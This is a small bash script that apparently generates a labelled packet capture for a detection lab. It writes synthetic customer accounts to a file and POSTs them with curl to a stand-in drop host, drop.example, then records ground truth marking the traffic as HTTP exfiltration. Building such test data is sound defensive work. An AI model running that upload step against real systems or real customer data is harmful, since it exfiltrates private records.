#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
# make.sh - record a POST of a JSON array.
here=$(cd "$(dirname "$0")" && pwd)
# shellcheck source=/dev/null
. "$here/../make/lab.sh"

table json accounts 120 >"$LAB/customers.json"
lab_up
lab_nginx out_
lab_record "$here/capture.pcap"
in_ curl -sS --resolve drop.example:80:203.0.113.9 -H "Content-Type: application/json" \
    --data-binary "@$LAB/customers.json" http://drop.example/upload
lab_stop
table truth accounts 120 channel=http party=drop.example \
    >"$here/truth.json"
